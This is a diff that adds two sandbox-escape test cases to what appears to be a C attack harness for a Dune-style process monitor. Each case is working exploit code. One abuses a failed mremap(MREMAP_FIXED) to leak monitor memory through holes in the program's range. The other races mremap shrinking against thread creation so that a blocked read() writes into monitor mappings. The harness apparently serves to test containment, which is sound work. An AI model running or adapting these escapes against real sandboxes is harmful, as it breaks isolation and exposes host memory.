@@ -431,6 +431,15 @@
  *   sysenter-vsyscall                ring 3 runs `sysenter`, an x32 system call number,
  *                                    and the vsyscall page's entry points (code that is
  *                                    not the program's)
+ *
+ * Round 15 (after the no-hole mremap/MAP_FIXED change):
+ *   mremap-fixed-fail-hole           mremap(MREMAP_FIXED) onto the program's own range
+ *                                    from a range the kernel holds as two vm areas (one
+ *                                    to the monitor): Linux unmaps the destination, then
+ *                                    fails (EFAULT); the destination stays "the
+ *                                    program's", new monitor threads' memory lands in
+ *                                    the hole, and write() from it hands Linux monitor
+ *                                    memory
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -5806,6 +5815,396 @@ static void sysenter_vsyscall(void) {
 	contained();
 }
 
+
+/* ---- round 15 ------------------------------------------------------------------------ */
+
+/* mremap(MREMAP_FIXED) onto the program's own range B from a range A the monitor
+ * sees as one accessible range but the kernel holds as several (madvise split it):
+ * Linux unmaps B, then refuses the move (EFAULT: across vm areas). The monitor
+ * still counts B as the program's; new monitor threads (stacks, vCPU areas) land in
+ * the hole. Probed with write() from B (the kernel reads there) and directly. */
+static volatile int mf_stop;
+static void *mf_blocker(void *a) {
+	(void)a;
+	while (!mf_stop)
+		usleep(2000);
+	return NULL;
+}
+
+/* Both streams: a run that hangs shows only stderr. */
+static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static void say(const char *fmt, ...) {
+	va_list ap;
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	va_start(ap, fmt);
+	vfprintf(stderr, fmt, ap);
+	va_end(ap);
+}
+
+static void mremap_fixed_fail_hole(void) {
+	find_dune();
+	/* Progress on stderr too: a run that hangs shows only that. */
+	setvbuf(stdout, NULL, _IONBF, 0);
+	setvbuf(stderr, NULL, _IONBF, 0);
+	static const size_t sizes[] = { 64 << 10, 128 << 10, 256 << 10, 300 << 10, 512 << 10, 1 << 20, 2 << 20, 4 << 20 };
+	enum { N = sizeof sizes / sizeof sizes[0], T = 12 };
+	char *as[N], *bs[N], *holes[N];
+	size_t lens[N];
+	int nh = 0;
+	int pfd[2];
+	if (pipe(pfd))
+		exit(2);
+	/* The threads' stacks first, so that none of the program's own mappings is made
+	 * after the holes (the kernel would place it there, and it would be the program's). */
+	pthread_attr_t at[T];
+	for (int i = 0; i < T; i++) {
+		void *st = mmap(NULL, 256 << 10, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		if (st == MAP_FAILED)
+			exit(2);
+		pthread_attr_init(&at[i]);
+		pthread_attr_setstack(&at[i], st, 256 << 10);
+	}
+	for (int i = 0; i < N; i++) {
+		as[i] = mmap(NULL, sizes[i], PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		bs[i] = mmap(NULL, sizes[i], PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		if (as[i] == MAP_FAILED || bs[i] == MAP_FAILED)
+			exit(2);
+		memset(as[i], 0x11, sizes[i]);
+		memset(bs[i], 0xaa, sizes[i]);
+	}
+	for (int i = 0; i < N; i++) {
+		size_t L = sizes[i];
+		char *a = as[i], *b = bs[i];
+		int m = madvise(a + 4096, 4096, MADV_DONTDUMP);
+		void *r = mremap(a, L, L, MREMAP_MAYMOVE | MREMAP_FIXED, b);
+		say("size %zu: madvise %d, mremap(%p -> %p) = %p (%s)\n", L, m, (void *)a, (void *)b, r, r == MAP_FAILED ? strerror(errno) : "moved");
+		if (r != MAP_FAILED)
+			continue;
+		/* Is B still there? The kernel reads it for write(). */
+		ssize_t w = write(pfd[1], b, 4096);
+		char tmp[4096];
+		if (w > 0 && read(pfd[0], tmp, w) != w)
+			exit(2);
+		say("  write(B) after the failed move: %zd (%s)\n", w, w < 0 ? strerror(errno) : "mapped");
+		holes[nh] = b;
+		lens[nh++] = L;
+	}
+	fflush(stdout);
+	pthread_t t[T];
+	int nt = 0;
+	for (int i = 0; i < T; i++) {
+		say("  thread %d...\n", i);
+		nt += pthread_create(&t[nt], &at[i], mf_blocker, NULL) == 0;
+	}
+	usleep(100 * 1000);
+	say("%d threads made; probing the holes\n", nt);
+	int mapped = 0, other = 0, monitor_pages = 0, monitor_ptrs = 0, direct = 0;
+	struct sigaction sa = { .sa_handler = probe_fault, .sa_flags = SA_NODEFER };
+	sigaction(SIGSEGV, &sa, NULL);
+	sigaction(SIGBUS, &sa, NULL);
+	for (int h = 0; h < nh; h++) {
+		for (size_t off = 0; off < lens[h]; off += 4096) {
+			static unsigned char got[4096];
+			ssize_t w = write(pfd[1], holes[h] + off, 4096);
+			if (w <= 0)
+				continue;
+			if (read(pfd[0], got, w) != w)
+				exit(2);
+			mapped++;
+			int pattern = 1, zero = 1;
+			for (ssize_t i = 0; i < w; i++) {
+				pattern &= got[i] == 0xaa;
+				zero &= got[i] == 0;
+			}
+			if (pattern || zero)
+				continue;
+			other++;
+			int ptrs = 0;
+			for (ssize_t i = 0; i + 8 <= w; i += 8) {
+				uintptr_t v;
+				memcpy(&v, got + i, 8);
+				if (v >= dune_lo && v < dune_hi)
+					ptrs++;
+			}
+			monitor_ptrs += ptrs;
+			monitor_pages += ptrs > 0;
+			if (ptrs > 0 && !getenv("MF_ALL")) {
+				/* Enough: say so at once (the threads whose stacks these are may not
+				 * end cleanly). */
+				say("  hole %d (%p) +%#zx: %d pointers into the monitor [%#lx, %#lx):", h, (void *)holes[h], off, ptrs, (unsigned long)dune_lo, (unsigned long)dune_hi);
+				for (ssize_t i = 0, shown = 0; i + 8 <= w && shown < 6; i += 8) {
+					uintptr_t v;
+					memcpy(&v, got + i, 8);
+					if (v >= dune_lo && v < dune_hi)
+						say(" [+%#zx]=%#lx", (size_t)i, (unsigned long)v), shown++;
+				}
+				say("\n");
+				escaped("Linux read monitor memory (a page with %d pointers into the monitor's image) through the program's pointer %p, in a hole a failed mremap(MREMAP_FIXED) left in the program's range", ptrs, (void *)(holes[h] + off));
+			}
+			if (other <= 6) {
+				say("  hole %d (%p) +%#zx: kernel read a page that is not the program's (%d pointers into the monitor [%#lx, %#lx)); its last words:", h, (void *)holes[h], off, ptrs, (unsigned long)dune_lo, (unsigned long)dune_hi);
+				for (int i = 0; i < 64; i += 8) {
+					uint64_t v;
+					memcpy(&v, got + 4096 - 64 + i, 8);
+					say(" %#lx", (unsigned long)v);
+				}
+				say("\n");
+			}
+			if (getenv("MF_DIRECT")) {
+				char first;
+				if (readable((volatile char *)holes[h] + off, &first))
+					direct++;
+			}
+		}
+	}
+	mf_stop = 1;
+	for (int i = 0; i < nt; i++)
+		pthread_join(t[i], NULL);
+	say("%d threads; %d pages of the holes mapped again, %d with contents neither the program's nor zero, %d of them with %d pointers into the monitor, %d of those ring 3 read directly\n", nt, mapped, other, monitor_pages, monitor_ptrs, direct);
+	fflush(stdout);
+	if (monitor_pages)
+		escaped("Linux read %d pages of monitor memory (%d pointers into the monitor) through program pointers into holes a failed mremap left; ring 3 read %d of them directly", monitor_pages, monitor_ptrs, direct);
+	if (other)
+		escaped("%d pages in the holes a failed mremap left hold memory that is not the program's", other);
+	contained();
+}
+
+/* ---- mremap's hole and a blocked read ---------------------------------------------- */
+
+/* mremap shrinking in place (the kernel unmaps the tail) leaves a hole until the
+ * monitor refills it with MAP_FIXED_NOREPLACE; a monitor mapping made meanwhile (a new
+ * thread's 256 KiB host stack, mmap(NULL) top-down) lands there, and the range is
+ * disowned. A sibling's read() checked long before, blocked in the kernel with its
+ * buffer in the tail, still holds the address: when the data comes, Linux writes the
+ * program's bytes into the monitor's mapping. The tail is made the highest free gap of
+ * 256 KiB or more (the program fills every such gap above it) so that mmap(NULL) picks
+ * it; sibling threads keep creating threads (each a fresh host stack) while the main
+ * thread shrinks the range and maps the tail back, over and over. A landing shows as
+ * EPERM from MAP_FIXED over the tail (no longer the program's); then the pipe is
+ * written and the blocked read must not succeed. */
+#define MH_L (256ul << 10)
+#define MH_OFF (64ul << 10)
+#define MH_SPAWNERS 3
+#define MH_PER_BATCH 4
+static char *mh_x;
+static int mh_data[2];
+static volatile long mh_read_ret = -2;
+static volatile int mh_read_errno;
+static pthread_mutex_t mh_mu = PTHREAD_MUTEX_INITIALIZER;
+static pthread_cond_t mh_cv = PTHREAD_COND_INITIALIZER;
+/* Batch number the spawners create for, the generation parked threads wait out, how
+ * many spawners finished creating / joining, and the end of the attack. */
+static int mh_batch, mh_gen, mh_created, mh_joined, mh_quit;
+
+static void *mh_reader(void *a) {
+	char *to = a;
+	long r = read(mh_data[0], to, 16);
+	mh_read_errno = errno;
+	__atomic_store_n(&mh_read_ret, r, __ATOMIC_SEQ_CST);
+	return NULL;
+}
+
+static void *mh_parked(void *a) {
+	int gen = (int)(intptr_t)a;
+	pthread_mutex_lock(&mh_mu);
+	while (mh_gen == gen)
+		pthread_cond_wait(&mh_cv, &mh_mu);
+	pthread_mutex_unlock(&mh_mu);
+	return NULL;
+}
+
+static void *mh_spawner(void *a) {
+	(void)a;
+	pthread_attr_t at;
+	pthread_attr_init(&at);
+	pthread_attr_setstacksize(&at, 64 << 10);
+	int seen = 0;
+	for (;;) {
+		pthread_mutex_lock(&mh_mu);
+		while (mh_batch == seen && !mh_quit)
+			pthread_cond_wait(&mh_cv, &mh_mu);
+		if (mh_quit) {
+			pthread_mutex_unlock(&mh_mu);
+			return NULL;
+		}
+		seen = mh_batch;
+		int gen = mh_gen;
+		pthread_mutex_unlock(&mh_mu);
+		pthread_t t[MH_PER_BATCH];
+		int n = 0;
+		for (int i = 0; i < MH_PER_BATCH; i++)
+			if (pthread_create(&t[n], &at, mh_parked, (void *)(intptr_t)gen) == 0)
+				n++;
+		pthread_mutex_lock(&mh_mu);
+		mh_created++;
+		pthread_cond_broadcast(&mh_cv);
+		while (mh_gen == gen && !mh_quit)
+			pthread_cond_wait(&mh_cv, &mh_mu);
+		pthread_mutex_unlock(&mh_mu);
+		for (int i = 0; i < n; i++)
+			pthread_join(t[i], NULL);
+		pthread_mutex_lock(&mh_mu);
+		mh_joined++;
+		pthread_cond_broadcast(&mh_cv);
+		pthread_mutex_unlock(&mh_mu);
+	}
+}
+
+/* Every free gap of 256 KiB or more above the range gets a reservation of the
+ * program's, so that the tail's hole is the first gap mmap(NULL, 256 KiB) finds. */
+static int mh_fill_above(void) {
+	int n = 0;
+	for (int i = 0; i < 4096; i++) {
+		char *f = mmap(NULL, MH_L, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+		if (f == MAP_FAILED)
+			break;
+		if (f < mh_x) {
+			munmap(f, MH_L);
+			break;
+		}
+		n++;
+	}
+	return n;
+}
+
+/* A fresh range of 512 KiB at the top, and a reader blocked on its tail. */
+static pthread_t mh_setup(void) {
+	mh_x = mmap(NULL, 2 * MH_L, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (mh_x == MAP_FAILED) {
+		printf("mmap: %s\n", strerror(errno));
+		exit(2);
+	}
+	int filled = mh_fill_above();
+	mh_read_ret = -2;
+	pthread_t r;
+	pthread_create(&r, NULL, mh_reader, mh_x + MH_L + MH_OFF);
+	/* Time to get into the kernel's read and block there. */
+	usleep(100 * 1000);
+	printf("range %p-%p, reader blocked on %p, %d gaps above filled\n", (void *)mh_x, (void *)(mh_x + 2 * MH_L), (void *)(mh_x + MH_L + MH_OFF), filled);
+	return r;
+}
+
+static void mh_batch_wait(int *counter) {
+	pthread_mutex_lock(&mh_mu);
+	while (*counter < MH_SPAWNERS)
+		pthread_cond_wait(&mh_cv, &mh_mu);
+	pthread_mutex_unlock(&mh_mu);
+}
+
+static volatile long mh_cycles;
+static void *mh_watchdog(void *a) {
+	(void)a;
+	sleep(75);
+	fprintf(stderr, "mremap-hole-read: stuck after %ld cycles (batch %d, gen %d, %d created, %d joined)\n", mh_cycles, mh_batch, mh_gen, mh_created, mh_joined);
+	exit(3);
+}
+
+static void mremap_hole_read(void) {
+	if (pipe(mh_data))
+		exit(2);
+	pthread_t wd;
+	pthread_create(&wd, NULL, mh_watchdog, NULL);
+	pthread_t sp[MH_SPAWNERS];
+	for (int i = 0; i < MH_SPAWNERS; i++)
+		pthread_create(&sp[i], NULL, mh_spawner, NULL);
+	long cycles = 0, landings = 0;
+	int batches = 0;
+	pthread_t reader = mh_setup();
+	double start = now(), end = start + 36;
+	int inflated = 0;
+	while (now() < end) {
+		if (!inflated && now() > start + 14) {
+			/* Many mappings below the range: the runtime reads /proc/self/maps after
+			 * the kernel's mremap, holding its lock, with the hole open. */
+			inflated = 1;
+			size_t n = 1500;
+			char *m = mmap(NULL, 2 * n * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+			if (m != MAP_FAILED && m < mh_x)
+				for (size_t i = 0; i < n; i++)
+					mprotect(m + 2 * i * 4096, 4096, PROT_READ);
+			printf("%ld cycles in %d batches so far; %zu mappings added below the range at %p (%.1f s)\n", cycles, batches, n, (void *)m, now() - start);
+			mh_fill_above();
+		}
+		pthread_mutex_lock(&mh_mu);
+		mh_created = mh_joined = 0;
+		mh_batch++;
+		pthread_cond_broadcast(&mh_cv);
+		pthread_mutex_unlock(&mh_mu);
+		batches++;
+		int landed = 0;
+		for (;;) {
+			pthread_mutex_lock(&mh_mu);
+			int done = mh_created >= MH_SPAWNERS;
+			pthread_mutex_unlock(&mh_mu);
+			/* The first batch fills the runtime's pool of vCPUs (their kvm_run
+			 * mappings are made once). */
+			if (done || batches == 1)
+				break;
+			char *r = mremap(mh_x, 2 * MH_L, MH_L, 0);
+			if (r == MAP_FAILED) {
+				printf("mremap: %s\n", strerror(errno));
+				exit(2);
+			}
+			mh_cycles = ++cycles;
+			char *t = mmap(mh_x + MH_L, MH_L, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+			if (t == MAP_FAILED) {
+				printf("cycle %ld (batch %d): MAP_FIXED over the tail %p: %s: something else landed in the hole\n", cycles, batches, (void *)(mh_x + MH_L), strerror(errno));
+				landed = 1;
+				break;
+			}
+		}
+		if (landed) {
+			landings++;
+			/* The batch's threads stay alive (their host stacks mapped) while the
+			 * blocked read gets its data. */
+			mh_batch_wait(&mh_created);
+			const char msg[16] = "program-bytes!!";
+			if (write(mh_data[1], msg, 16) != 16)
+				exit(2);
+			for (int i = 0; i < 200 && __atomic_load_n(&mh_read_ret, __ATOMIC_SEQ_CST) == -2; i++)
+				usleep(10 * 1000);
+			long rr = __atomic_load_n(&mh_read_ret, __ATOMIC_SEQ_CST);
+			if (rr == -2) {
+				printf("the blocked read into %p did not return\n", (void *)(mh_x + MH_L + MH_OFF));
+				exit(3);
+			}
+			printf("the blocked read into %p: %ld (%s)\n", (void *)(mh_x + MH_L + MH_OFF), rr, rr < 0 ? strerror(mh_read_errno) : "written");
+			fflush(stdout);
+			if (rr == 16)
+				escaped("a monitor mapping landed in mremap's hole at %p after %ld cycles (%d batches): the read checked before wrote 16 bytes of the program's "
+				        "into memory that is not the program's",
+				        (void *)(mh_x + MH_L), cycles, batches);
+			pthread_join(reader, NULL);
+		}
+		/* Every spawner took this batch's generation before it ends. */
+		mh_batch_wait(&mh_created);
+		pthread_mutex_lock(&mh_mu);
+		mh_gen++;
+		pthread_cond_broadcast(&mh_cv);
+		pthread_mutex_unlock(&mh_mu);
+		mh_batch_wait(&mh_joined);
+		/* The threads' host stacks go when the host threads end. */
+		usleep(20 * 1000);
+		if (landed)
+			reader = mh_setup();
+		else
+			mh_fill_above();
+	}
+	pthread_mutex_lock(&mh_mu);
+	mh_quit = 1;
+	pthread_cond_broadcast(&mh_cv);
+	pthread_mutex_unlock(&mh_mu);
+	for (int i = 0; i < MH_SPAWNERS; i++)
+		pthread_join(sp[i], NULL);
+	if (write(mh_data[1], "0123456789abcdef", 16) != 16)
+		exit(2);
+	pthread_join(reader, NULL);
+	printf("%ld cycles, %d batches, %ld landings, last read %ld\n", cycles, batches, landings, mh_read_ret);
+	contained();
+}
+
 int main(int argc, char **argv) {
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc < 2) {
@@ -6079,6 +6478,11 @@ int main(int argc, char **argv) {
 		need(argc, 4), sockname_null_len(argv[2], argv[3]);
 	else if (!strcmp(name, "sysenter-vsyscall"))
 		sysenter_vsyscall();
+	/* round 15 */
+	else if (!strcmp(name, "mremap-fixed-fail-hole"))
+		mremap_fixed_fail_hole();
+	else if (!strcmp(name, "mremap-hole-read"))
+		mremap_hole_read();
 	fprintf(stderr, "unknown attack %s\n", name);
 	return 2;
 }
